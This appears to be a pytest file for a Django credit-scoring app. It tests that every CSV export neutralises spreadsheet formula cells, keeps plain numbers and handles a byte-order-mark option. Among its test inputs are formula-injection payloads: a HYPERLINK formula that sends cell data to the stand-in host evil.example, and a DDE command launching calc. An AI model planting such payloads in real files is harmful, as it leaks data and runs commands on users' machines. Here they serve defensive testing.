"""Every CSV the app hands out: formula cells neutralised, UTF-8 said and optionally marked, one writer for all."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from scoring.batch import jobs
from scoring.decisions import services
from scoring.files.csv_export import FORMULA_START, CsvLines, safe_cell
from tests.support.batch_files import csv_bytes, synthetic_frame

# One hostile reference per character a spreadsheet reads as the start of a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1)",  # full-width equals sign
]
# Plain numbers stay numbers: a spreadsheet reads them as the number and nothing else.
NUMBERS = ["-0.5", "-12", "+1e3"]
PLAIN_NUMBER = re.compile(r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$")


def _unsafe_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c[:1] and c[0] in FORMULA_START and not PLAIN_NUMBER.match(c)]


def _read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


@pytest.fixture
def hostile_history(officer, example_inputs, django_capture_on_commit_callbacks):
    """Decisions (web and batch) whose external references, a review and a batch error start a formula."""
    for ref in HOSTILE + NUMBERS:
        prediction = services.score_application(user=officer, inputs=example_inputs, channel="api", external_ref=ref)
    services.record_review(user=officer, prediction=prediction, outcome="agree", justification="=1+1 was checked")
    frame = synthetic_frame(len(HOSTILE) + len(NUMBERS) + 1)
    # A batch reference with a control character (tab, CR) is a row error of its own, so not among these.
    refs = [r for r in HOSTILE if r.isprintable()] + NUMBERS + ["@bad-row"]
    frame.loc[: len(refs) - 1, "external_ref"] = refs
    frame.loc[len(refs) - 1, "duration_in_month"] = "=2+5"  # a row error that keeps its reference
    with django_capture_on_commit_callbacks(execute=True):  # eager Celery: the chunks run on commit
        job = jobs.submit_batch_job(user=officer, upload=SimpleUploadedFile("hostile.csv", csv_bytes(frame)))
    job.refresh_from_db()
    assert job.state == "succeeded", job.error
    return job


@pytest.fixture
def downloads(hostile_history, officer, auditor, officer_api):
    """Every CSV endpoint, fetched by who may fetch it: (name, response)."""
    officer_web, auditor_web = Client(), Client()
    officer_web.force_login(officer)
    auditor_web.force_login(auditor)
    job = hostile_history
    return [
        ("web batch result", officer_web.get(reverse("scoring:batch-result", args=[job.pk]))),
        ("web batch result (auditor)", auditor_web.get(reverse("scoring:batch-result", args=[job.pk]))),
        ("API batch result", officer_api.get(reverse("api:batch-job-result", args=[job.pk]))),
        ("audit export", auditor_web.get(reverse("audit:prediction-export"))),
    ]


def test_every_csv_download_neutralises_formula_cells_and_keeps_numbers(downloads):
    read = {}
    for name, response in downloads:
        assert response.status_code == 200, name
        rows = read[name] = _read(response)
        assert not _unsafe_cells(rows), f"{name}: {_unsafe_cells(rows)}"
        cells = {c for row in rows for c in row}
        for ref in ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(1)"):
            assert "'" + ref in cells, f"{name}: {ref!r} not kept as text"
        assert "'\uff1dSUM(1)" in cells, name
        assert {"-0.5", "-12", "+1e3"} <= cells, f"{name}: a plain number was altered"
    error_row = next(r for r in read["web batch result"][1:] if r[-1])
    assert error_row[1] == "'@bad-row" and "duration_in_month" in error_row[-1]


def test_the_audit_export_neutralises_raw_lines_and_review_text(downloads):
    """A batch line is kept as given, so one that starts with a formula character is neutralised."""
    rows = _read(downloads[-1][1])
    cells = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert any(c["input_line"].startswith("'+cmd|") for c in cells)
    assert "'=1+1 was checked" in {c["last_review_justification"] for c in cells}


def test_result_csvs_say_utf8_and_offer_a_byte_order_mark(hostile_history, officer, officer_api):
    web = Client()
    web.force_login(officer)
    job = hostile_history
    for get, url in (
        (web.get, reverse("scoring:batch-result", args=[job.pk])),
        (officer_api.get, reverse("api:batch-job-result", args=[job.pk])),
    ):
        plain, marked = get(url), get(url, {"bom": "1"})
        assert plain["Content-Type"] == marked["Content-Type"] == "text/csv; charset=utf-8"
        plain_body, marked_body = b"".join(plain.streaming_content), b"".join(marked.streaming_content)
        assert not plain_body.startswith(b"\xef\xbb\xbf")
        assert marked_body == b"\xef\xbb\xbf" + plain_body
        assert b"".join(get(url, {"bom": "false"}).streaming_content) == plain_body


def test_a_bom_value_that_is_not_yes_or_no_is_refused_naming_it(hostile_history, officer, auditor, officer_api):
    web = Client()
    web.force_login(officer)
    job = hostile_history
    page = web.get(reverse("scoring:batch-result", args=[job.pk]), {"bom": "yes please"})
    assert page.status_code == 400 and b"bom=1" in page.content
    api = officer_api.get(reverse("api:batch-job-result", args=[job.pk]), {"bom": "2"})
    assert api.status_code == 400 and api["Content-Type"] == "application/problem+json"
    assert "bom" in api.json()["errors"]
    web.force_login(auditor)
    export = web.get(reverse("audit:prediction-export"), {"bom": "maybe"})
    assert export.status_code == 400 and b"bom=1" in export.content


def test_the_api_schema_declares_the_bom_parameter(officer_api):
    schema = officer_api.get(reverse("api:schema"), {"format": "json"}).json()
    operation = schema["paths"]["/api/v1/batch-jobs/{job_id}/result"]["get"]
    bom = next(p for p in operation["parameters"] if p["name"] == "bom")
    assert bom["in"] == "query" and bom["schema"]["type"] == "boolean" and not bom.get("required")


def test_the_writer_neutralises_every_formula_start_and_only_text():
    for start in FORMULA_START:
        assert safe_cell(start + "cmd") == "'" + start + "cmd"
    assert [safe_cell(v) for v in (-0.5, 3, "-0.5", "", "A=1", "ok")] == [-0.5, 3, "-0.5", "", "A=1", "ok"]
    lines = CsvLines()
    lines.row(["=1", -1, "-x"])
    assert lines.take() == "'=1,-1,'-x\n" and lines.take() == ""


def test_no_module_but_the_writer_writes_csv():
    """Every CSV goes through scoring/files/csv_export.py: no other module makes a csv writer or a CSV response."""
    writer_module = Path(settings.BASE_DIR) / "scoring" / "files" / "csv_export.py"
    pattern = re.compile(r"csv\.(writer|DictWriter)\s*\(|content_type\s*=\s*[\"']text/csv")
    offenders = []
    for package in ("scoring", "accounts", "creditscore"):
        for path in (Path(settings.BASE_DIR) / package).rglob("*.py"):
            if path != writer_module and pattern.search(path.read_text()):
                offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert not offenders, f"write CSV through scoring.files.csv_export instead: {offenders}"
    assert pattern.search(writer_module.read_text())  # the check sees the writer itself
